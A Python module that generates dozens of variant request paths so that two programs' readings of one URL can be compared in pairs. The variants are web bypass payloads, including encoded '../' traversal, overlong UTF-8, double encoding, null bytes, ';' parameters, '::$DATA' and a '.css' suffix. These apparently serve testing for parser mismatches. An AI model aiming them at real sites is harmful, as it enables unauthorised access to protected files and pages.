"""Spellings of one path that two programs may read differently."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote


def spellings(path: str, authority: str, public: str | None) -> Iterator[str]:
    """Request targets that a program on the way may take for the path.

    Two paths in the same folder give lists of the same length and order, so that answers can be compared in pairs.

    Args:
        path: percent-encoded, with its leading slash.
        authority: host and port of the site.
        public: a path that anyone may read; `..` may lead out of its folder.
    """
    folder, _, name = path.rpartition("/")
    first, rest = path[1:2], path[2:]
    stem, dot, ending = name.rpartition(".")
    yield from (f"/{path}", f"//{path}", f"{folder}//{name}", f"/.{path}", f"/%2e{path}", f"{folder}/./{name}")
    yield from (f"{folder}/%2E/{name}", f"{folder}/.//{name}")
    for up in _UPWARDS:
        yield f"/x/{up}{path[1:]}"
    yield from (f"{folder}/x/../{name}", f"{folder}/x/%2e%2e/{name}", f"{folder}/x%2f..%2f{name}")
    yield from (f"/{path[1:].replace('/', '%2f')}", f"/{path[1:].replace('/', '%2F')}", f"/%2f{path[1:]}")
    yield from (f"/{path[1:].replace('/', '%5c')}", f"/{path[1:].replace('/', chr(92))}", f"{chr(92)}{path[1:]}")
    yield from (f"/{_escaped(first)}{rest}", f"/{_escaped(first).lower()}{rest}", f"/{_all_escaped(path[1:])}")
    yield from (f"{folder}/{stem}%2e{ending}" if dot else f"{folder}/{_all_escaped(name)}", f"/%25{ord(first):x}{rest}")
    yield from (f"/x/%252e%252e/{path[1:]}", f"/{path[1:].replace('/', '%252f')}", f"/x/%c0%ae%c0%ae/{path[1:]}")
    yield from (f"{path}/", f"{path}.", f"{path}/.", f"{path}%20", f"{path}%00", f"{path}%00.txt", f"{path}%0a")
    yield from (f"{path};", f"{path};x=y", f"{path}%3bx", f"/;x{path}", f"/x;/..{path}", f"{folder};x/{name}")
    yield from (f"{path}?", f"{path}?x", f"{path}%3f", f"{path}%3fx", f"{path}#x", f"{path}%23x", f"{path}/x/..")
    yield from (path.upper(), f"/{first.upper()}{rest}", f"{path}~", f"{path}::$DATA", f"{path},")
    yield from (f"/{_wide(first)}{rest}", f"/%2525{ord(first):x}{rest}", f"/%09{path[1:]}", f"{path}%09")
    yield from (f"{path}{mark}x.css" for mark in "?;/")  # style sheets are often served without a check
    yield from (f"{path}?/public/", f"{path} HTTP/1.0")
    yield from (f"http://{authority}{path}", f"https://{authority}{path}", f"http://doctor.invalid{path}", path[1:])
    if public is not None:
        inside = public.rpartition("/")[0]
        depth = inside.count("/")
        for up in _UPWARDS:
            yield f"{inside}/{up * depth}{path[1:]}"
        yield f"{public}/{'../' * (depth + 1)}{path[1:]}"


_UPWARDS = ("../", "%2e%2e/", "%2E%2E/", ".%2e/", "..%2f", "%2e%2e%2f", "..%5c", "..\\", "..;/", "..//")


def _escaped(letter: str) -> str:
    return f"%{ord(letter):02X}" if letter.isascii() and letter not in "/%" else quote(letter)


def _wide(letter: str) -> str:
    """The full-width letter that NFKC turns into this one (Unicode Standard Annex #15)."""
    return quote(chr(ord(letter) + 0xFEE0)) if "!" <= letter <= "~" else quote(letter)


def _all_escaped(text: str) -> str:
    if "%" in text:  # it is percent-encoded already
        return text
    return "".join(letter if letter == "/" else f"%{ord(letter):02X}" for letter in text)
